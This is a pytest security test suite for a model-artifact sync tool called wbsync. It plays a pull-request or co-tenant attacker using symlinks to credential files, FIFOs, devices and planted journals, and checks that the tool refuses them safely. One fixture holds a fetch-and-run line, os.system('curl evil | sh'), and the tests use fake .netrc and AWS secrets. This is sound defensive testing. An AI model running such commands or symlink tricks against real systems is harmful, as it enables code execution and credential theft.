"""Attacks through the file system (issue 26, round three): a pull request that commits links or
files where wbsync keeps its own, a co-tenant on the machine who owns or plants things in the
content store, and files that are not regular files (FIFOs, devices) where wbsync reads or writes.

Each test plays the attacker against the real CLI and the fake W&B server (or a folder mirror),
then checks the promise: the exit code, the message naming the file and not quoting its secret,
the bytes on disk unchanged, no hang (a timeout), no traceback.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
import yaml

from helpers import run, run_json, tree, write_manifest
from test_lock_and_sync import MODEL, PHI3, publish
from wbsync.core.digests import hash_bytes
from wbsync.testing import FakeWandb

SECRET = "machine api.example.com login alice password hunter2-SECRET"


def synced(fake_wandb: FakeWandb, project: Path) -> None:
    publish(fake_wandb)
    write_manifest(project, PHI3)
    run("sync")


def git(project: Path, *args: str) -> None:
    subprocess.run(["git", *args], cwd=project, check=True, capture_output=True)


def git_repo(project: Path) -> None:
    git(project, "init", "-q")
    git(project, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "--allow-empty", "-m", "init")


def secret_file(tmp_path: Path, text: str = SECRET) -> Path:
    path = tmp_path / "home" / ".netrc"
    path.parent.mkdir(exist_ok=True)
    path.write_text(text + "\n")
    return path


class Hung(BaseException):
    """Not an OSError (as TimeoutError is), so no handler in wbsync swallows it."""


@contextmanager
def no_hang(seconds: int = 10) -> Iterator[None]:
    """Fail (instead of hanging the suite) when wbsync blocks on a FIFO or reads a device forever."""
    def hung(signum: int, frame: object) -> None:
        raise Hung(f"wbsync still running after {seconds} s: it blocked on a FIFO or read without end")

    previous = signal.signal(signal.SIGALRM, hung)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


# -- item 1: a symlinked lock or manifest ------------------------------------------------------


@pytest.mark.parametrize("secret", [SECRET, "[default]\naws_secret_access_key = hunter2-SECRET\n",
                                    "- hunter2-SECRET\n- two\n", "lock_version: hunter2-SECRET\n"])
def test_a_lock_symlinked_out_of_the_project_is_refused_naming_only_the_link(
        fake_wandb: FakeWandb, project: Path, tmp_path: Path, secret: str) -> None:
    synced(fake_wandb, project)
    lock = project / "artifacts.lock"
    lock.unlink()
    lock.symlink_to(secret_file(tmp_path, secret))
    for args in (["verify"], ["sync", "--locked"], ["lock", "--check"], ["sync", "--frozen"]):
        result = run(*args, check=2)
        assert "artifacts.lock" in result.stderr and "symlink" in result.stderr, result.stderr
        assert "hunter2" not in result.stderr + result.stdout and ".netrc" not in result.stderr
    doc = run_json("verify", check=2)
    assert "hunter2" not in str(doc)


def test_a_lock_that_is_not_a_lock_never_has_its_text_quoted_in_the_error(
        fake_wandb: FakeWandb, project: Path) -> None:
    synced(fake_wandb, project)
    for text in (SECRET, "- hunter2-SECRET\n", "key: hunter2-SECRET\nother: 1\n", "{artifacts: hunter2-SECRET}\n",
                 "lock_version: 2\nartifacts:\n  phi3: hunter2-SECRET\n"):
        (project / "artifacts.lock").write_text(text)
        err = run("verify", check=2).stderr
        assert "artifacts.lock" in err and "hunter2" not in err, err


def test_a_manifest_symlinked_to_an_ini_file_is_refused_without_printing_its_lines(
        fake_wandb: FakeWandb, project: Path, tmp_path: Path) -> None:
    synced(fake_wandb, project)
    ini = secret_file(tmp_path, "[default]\naws_secret_access_key = hunter2-SECRET")
    manifest = project / "artifacts.yaml"
    manifest.unlink()
    manifest.symlink_to(ini)
    for args in (["lock"], ["sync"], ["verify"]):
        err = run(*args, check=2).stderr
        assert "artifacts.yaml" in err and "symlink" in err and "hunter2" not in err, err
    manifest.unlink()
    manifest.write_text(ini.read_text())  # the same file, copied in: the line is still not quoted
    err = run("lock", check=2).stderr
    assert "artifacts.yaml:" in err and "hunter2" not in err, err


def test_a_lock_symlinked_to_a_file_git_tracks_in_the_repository_is_followed(
        fake_wandb: FakeWandb, project: Path) -> None:
    synced(fake_wandb, project)
    git_repo(project)
    (project / "locks").mkdir()
    os.replace(project / "artifacts.lock", project / "locks/artifacts.lock")
    (project / "artifacts.lock").symlink_to("locks/artifacts.lock")
    assert "git does not track" in run("verify", check=2).stderr
    git(project, "add", "locks/artifacts.lock")
    run("verify")
    run("sync", "--locked")


def test_a_lock_symlinked_inside_the_project_folder_is_followed_outside_git(
        fake_wandb: FakeWandb, project: Path) -> None:
    synced(fake_wandb, project)
    os.replace(project / "artifacts.lock", project / "real.lock")
    (project / "artifacts.lock").symlink_to(project / "real.lock")
    run("verify")


@pytest.mark.parametrize("name", ["artifacts.lock", "artifacts.yaml"])
def test_a_lock_or_manifest_that_is_a_device_or_fifo_is_refused_without_reading_it(
        fake_wandb: FakeWandb, project: Path, name: str) -> None:
    synced(fake_wandb, project)
    path = project / name
    path.unlink()
    path.symlink_to("/dev/zero")
    with no_hang():
        err = run("verify", check=2).stderr
    assert name in err, err
    path.unlink()
    os.mkfifo(path)
    with no_hang():
        err = run("verify", check=2).stderr
    assert name in err and "FIFO" in err, err


# -- item 10: wbsync's own files replaced by /dev/zero or a FIFO ----------------------------------


def store_dir() -> Path:
    return Path(os.environ["WBSYNC_CACHE_DIR"])


@pytest.mark.parametrize("name", ["state.json", "state-delta.json", "fingerprint.json", "sync.lock"])
@pytest.mark.parametrize("special", ["/dev/zero", "fifo"])
def test_wbsyncs_own_files_that_are_devices_or_fifos_are_never_read(
        fake_wandb: FakeWandb, project: Path, name: str, special: str) -> None:
    synced(fake_wandb, project)
    path = project / ".wbsync" / name
    path.unlink(missing_ok=True)
    if special == "fifo":
        os.mkfifo(path)
    else:
        path.symlink_to(special)
    with no_hang():
        for args in (["verify"], ["sync"], ["sync", "--force"], ["cache", "info"], ["cache", "prune"]):
            result = run(*args, check=None)
            assert result.exit_code in (0, 2), result.output
            if result.exit_code == 2:
                assert name in result.stderr and "Traceback" not in result.stderr, result.stderr
    assert tree(project / "models/phi3") == MODEL


@pytest.mark.parametrize("special", ["/dev/zero", "fifo"])
def test_a_swap_journal_that_is_a_device_or_fifo_is_refused_naming_it(
        fake_wandb: FakeWandb, project: Path, special: str) -> None:
    synced(fake_wandb, project)
    path = project / ".wbsync/swap.json"
    if special == "fifo":
        os.mkfifo(path)
    else:
        path.symlink_to(special)
    with no_hang():
        for args in (["verify"], ["sync"]):
            err = run(*args, check=2).stderr
            assert "swap.json" in err, err


def test_a_registered_lock_replaced_by_dev_zero_protects_nothing_and_hangs_nothing(
        fake_wandb: FakeWandb, project: Path, tmp_path: Path) -> None:
    synced(fake_wandb, project)
    other = tmp_path / "other"
    other.mkdir()
    os.chdir(other)
    write_manifest(other, PHI3)
    run("sync")
    (other / "artifacts.lock").unlink()
    (other / "artifacts.lock").symlink_to("/dev/zero")
    os.chdir(project)
    with no_hang():
        run("cache", "info")
        run("cache", "prune")
        run("sync")
    assert tree(project / "models/phi3") == MODEL


# -- items 6 and 18: links and FIFOs in the store's tmp/ and in the tree -------------------------


def ranged_name(name: str = "weights/shard-0.bin") -> str:
    """The part-done file name the store gives the model's large file."""
    from wbsync.core.models import FileRecord
    from wbsync.store.blobs import blob_hex
    from wbsync.store.partial import SUFFIX

    record = FileRecord(name, len(MODEL[name]), hash_bytes(MODEL[name], "md5"), "md5")
    return f"md5-{blob_hex(record)}{SUFFIX}"


@pytest.mark.parametrize("special", ["symlink", "fifo"])
def test_a_part_done_file_that_is_a_link_or_fifo_is_never_written_through(
        fake_wandb: FakeWandb, project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, special: str) -> None:
    monkeypatch.setenv("WBSYNC_RANGE_THRESHOLD", "1024")  # the 6,000-byte file takes the ranged path
    monkeypatch.setenv("WBSYNC_PART_SIZE", "1024")
    publish(fake_wandb)
    write_manifest(project, PHI3)
    victim = tmp_path / "victim.txt"
    victim.write_bytes(b"v" * 6000)  # the size the journal records: a resume would write into it
    tmp = store_dir() / "tmp"
    tmp.mkdir(parents=True)
    part = tmp / ranged_name()
    digest = hash_bytes(MODEL["weights/shard-0.bin"], "md5")
    (tmp / f"{part.name}.json").write_text(json.dumps({"size": 6000, "digest": digest, "part_size": 1024,
                                                       "done": [0]}))
    if special == "symlink":
        part.symlink_to(victim)
    else:
        os.mkfifo(part)
    with no_hang():
        run("sync")
    assert victim.read_bytes() == b"v" * 6000
    assert tree(project / "models/phi3") == MODEL


@pytest.mark.parametrize("name", ["store", "claims"])
def test_a_store_lock_file_that_is_a_symlink_is_refused_not_opened(
        fake_wandb: FakeWandb, project: Path, tmp_path: Path, name: str) -> None:
    publish(fake_wandb)
    write_manifest(project, PHI3)
    victim = tmp_path / "created-by-wbsync"
    locks = store_dir() / "locks"
    locks.mkdir(parents=True)
    (locks / name).symlink_to(victim)  # dangling: opening it with O_CREAT would create the co-tenant's file
    with no_hang():
        result = run("sync", check=None)
    assert result.exit_code in (0, 2) and "Traceback" not in result.output, result.output
    assert not victim.exists()


def test_a_locked_file_that_is_a_fifo_is_never_read_by_verify_or_sync(fake_wandb: FakeWandb, project: Path) -> None:
    synced(fake_wandb, project)
    shard = project / "models/phi3/weights/shard-0.bin"
    shard.unlink()
    os.mkfifo(shard)
    with no_hang():
        doc = run_json("verify", check=1)
        assert "weights/shard-0.bin" in str(doc["entries"][0])
        assert "pipe" in run("sync", check=2).stderr
        run("sync", "--force", check=2)
    assert shard.is_fifo()


def test_a_blob_in_the_store_that_is_a_fifo_is_never_read(fake_wandb: FakeWandb, project: Path) -> None:
    synced(fake_wandb, project)
    blobs = [p for p in (store_dir() / "blobs").rglob("*") if p.is_file()]
    for blob in blobs:
        blob.unlink()
        os.mkfifo(blob)
    import shutil

    shutil.rmtree(project / "models")
    with no_hang():
        result = run("sync", check=None)
    assert "Traceback" not in result.output


# -- item 14: verify and a locked folder that is a symlink out of the project ---------------------


@pytest.mark.parametrize("link", ["models/phi3", "models"])
def test_verify_refuses_a_locked_folder_that_is_a_symlink_out_of_the_project(
        fake_wandb: FakeWandb, project: Path, tmp_path: Path, link: str) -> None:
    synced(fake_wandb, project)
    outside = tmp_path / "outside"
    os.replace(project / link, outside)
    (outside / "id_rsa").write_text("PRIVATE KEY")
    (project / link).symlink_to(outside)
    result = run("verify", check=4)
    assert "symlink" in result.stderr and "id_rsa" not in result.output, result.output
    (outside / "README.md" if link == "models/phi3" else outside / "phi3/README.md").unlink()
    assert "symlink" in run("sync", check=4).stderr  # the refusal sync makes once it has to write


# -- item 2: files under .wbsync/ that came with a commit -------------------------------------------

TRAIN = b"print('the user's own training code')\n"
EVIL_CODE = b"import os; os.system('curl evil | sh')\n"


def planted_journal(project: Path, dest: str) -> None:
    """A swap journal and a staged file, as a pull request can commit them."""
    (project / "src").mkdir(exist_ok=True)
    (project / "src/train.py").write_bytes(TRAIN)
    staged = f"{dest.rpartition('/')[0]}/.train.py.wbsync-1-0123abcd.tmp"
    (project / staged).write_bytes(EVIL_CODE)
    doc = {"journal_version": 1, "renames": [[staged, dest, False]], "removes": [], "state_delta": {}}
    (project / ".wbsync/swap.json").write_text(json.dumps(doc))


def test_a_swap_journal_git_tracks_is_ignored_with_a_warning(fake_wandb: FakeWandb, project: Path) -> None:
    synced(fake_wandb, project)
    git_repo(project)
    planted_journal(project, "src/train.py")
    git(project, "add", "-f", ".wbsync/swap.json", "src")
    for args in (["verify"], ["sync"]):
        result = run(*args)  # ignored: the tree is as the lock says
        assert "swap.json" in result.stderr and "git tracks it" in result.stderr, result.stderr
        assert (project / "src/train.py").read_bytes() == TRAIN


def test_a_swap_journal_renaming_outside_the_locks_folders_is_refused(fake_wandb: FakeWandb, project: Path) -> None:
    synced(fake_wandb, project)
    planted_journal(project, "src/train.py")  # not committed: still refused, by where it renames to
    for args in (["verify"], ["sync"]):
        err = run(*args, check=2).stderr
        assert "swap.json" in err and "src/train.py" in err, err
        assert (project / "src/train.py").read_bytes() == TRAIN


def test_a_state_file_git_tracks_besides_the_state_is_named_in_the_warning(
        fake_wandb: FakeWandb, project: Path) -> None:
    synced(fake_wandb, project)
    git_repo(project)
    git(project, "add", "-f", ".wbsync/fingerprint.json")
    (project / "models/phi3/README.md").unlink()
    result = run("sync")
    assert "fingerprint.json" in result.stderr and "git rm -r --cached .wbsync" in result.stderr, result.stderr


# -- item 4: a file named like the base revision --------------------------------------------------


def committed_lock_then_a_change(fake_wandb: FakeWandb, project: Path) -> str:
    """main holds the synced lock; the working lock adds an entry; a file named main holds the
    working lock, as a pull request could add it. Returns main's short commit id."""
    synced(fake_wandb, project)
    git_repo(project)
    git(project, "add", "artifacts.lock", "artifacts.yaml")
    git(project, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "-m", "lock")
    git(project, "branch", "-M", "main")
    data = yaml.safe_load((project / "artifacts.lock").read_text())
    data["artifacts"]["phi3"]["version"] = "v9"
    (project / "artifacts.lock").write_text(yaml.safe_dump(data))
    (project / "main").write_text((project / "artifacts.lock").read_text())
    return subprocess.run(["git", "rev-parse", "--short", "main"], cwd=project, capture_output=True, text=True,
                          check=True).stdout.strip()


def test_diff_refuses_an_argument_that_is_both_a_file_and_a_revision(fake_wandb: FakeWandb, project: Path) -> None:
    committed_lock_then_a_change(fake_wandb, project)
    for args in (["diff", "main", "--markdown"], ["diff", "main", "--exit-code"], ["diff", "main", "phi3"]):
        err = run(*args, check=2).stderr
        assert "./main" in err and "main --" in err, err


def test_diff_refuses_a_file_at_a_path_spelled_like_a_remote_branch(fake_wandb: FakeWandb, project: Path) -> None:
    committed_lock_then_a_change(fake_wandb, project)
    git(project, "update-ref", "refs/remotes/origin/main", "main")
    (project / "origin").mkdir()
    os.replace(project / "main", project / "origin/main")
    assert "./origin/main" in run("diff", "origin/main", "--exit-code", check=2).stderr
    run("diff", "origin/main", "--exit-code", "--", check=1)
    run("diff", "./origin/main", "--exit-code")


def test_diff_compares_with_the_revision_after_dashdash_and_names_its_commit(
        fake_wandb: FakeWandb, project: Path) -> None:
    commit = committed_lock_then_a_change(fake_wandb, project)
    result = run("diff", "main", "--exit-code", "--", check=1)
    assert commit in result.stdout and "v9" in result.stdout, result.stdout
    assert commit in run("diff", "main", "--markdown", "--").stdout
    run("diff", "./main", "--exit-code")  # the file, written as a path: the pull request's own lock, no change


# -- item 5: a store another user created, or one others can write into ---------------------------

NOBODY = 65534


def planted_store(fake_wandb: FakeWandb, project: Path) -> Path:
    """The store as another user leaves it: a same-size blob of other bytes with the "verified"
    mtime, in folders they own. Returns the planted blob."""
    synced(fake_wandb, project)
    import shutil

    shutil.rmtree(project / "models")
    shutil.rmtree(project / ".wbsync", ignore_errors=True)
    from wbsync.store.blobs import VERIFIED_MTIME_NS

    name = "weights/shard-0.bin"
    [blob] = [p for p in (store_dir() / "blobs").rglob("*") if p.is_file() and p.stat().st_size == len(MODEL[name])]
    os.chmod(blob, 0o644)
    blob.write_bytes(b"\xde\xad" * 3000)
    os.utime(blob, ns=(VERIFIED_MTIME_NS, VERIFIED_MTIME_NS))
    for path in [store_dir(), *store_dir().rglob("*")]:
        os.chown(path, NOBODY, NOBODY, follow_symlinks=False)
    return blob


def test_a_store_another_user_created_is_refused_with_the_fix(fake_wandb: FakeWandb, project: Path) -> None:
    planted_store(fake_wandb, project)
    err = run("sync", check=2).stderr
    assert "owned by another user" in err and "WBSYNC_SHARED_STORE" in err and "chown" in err, err
    assert not (project / "models/phi3/weights/shard-0.bin").exists()


@pytest.mark.parametrize("mode", [0o775, 0o777, 0o1777])
def test_a_store_writable_by_group_or_others_is_refused(fake_wandb: FakeWandb, project: Path, mode: int) -> None:
    synced(fake_wandb, project)
    os.chmod(store_dir() / "blobs", mode)
    os.chown(store_dir() / "blobs", os.geteuid(), NOBODY)  # a group with others in it, not the user's own
    (project / "models/phi3/README.md").unlink()
    err = run("sync", check=2).stderr
    assert "blobs" in err and "writable" in err, err


def test_a_store_shared_on_purpose_is_accepted_and_every_blob_is_rehashed_before_use(
        fake_wandb: FakeWandb, project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    planted_store(fake_wandb, project)
    for path in [store_dir(), *store_dir().rglob("*")]:
        if path.is_dir():
            os.chmod(path, 0o2775)
    monkeypatch.setenv("WBSYNC_SHARED_STORE", "1")
    run("sync")
    assert tree(project / "models/phi3") == MODEL  # the planted blob was re-hashed, refused, fetched again
    os.chmod(store_dir(), 0o777)  # shared, yes; writable by every user, never
    (project / "models/phi3/README.md").unlink()
    assert "every user" in run("sync", check=2).stderr


def test_a_blob_another_user_owns_is_rehashed_even_in_a_store_of_ones_own(
        fake_wandb: FakeWandb, project: Path) -> None:
    blob = planted_store(fake_wandb, project)
    for path in [store_dir(), *store_dir().rglob("*")]:
        if path != blob:
            os.chown(path, os.geteuid(), os.getegid(), follow_symlinks=False)
    run("sync")
    assert tree(project / "models/phi3") == MODEL


def test_wbsync_add_never_edits_a_manifest_symlinked_out_of_the_project(
        fake_wandb: FakeWandb, project: Path, tmp_path: Path) -> None:
    publish(fake_wandb)
    target = secret_file(tmp_path, "version: 1\nartifacts: {}  # hunter2-SECRET")
    (project / "artifacts.yaml").symlink_to(target)
    err = run("add", "wandb-registry-model/phi3-finetuned:production", "--path", "models/phi3", check=2).stderr
    assert "symlink" in err and "hunter2" not in err, err
    assert target.read_text() == "version: 1\nartifacts: {}  # hunter2-SECRET\n"
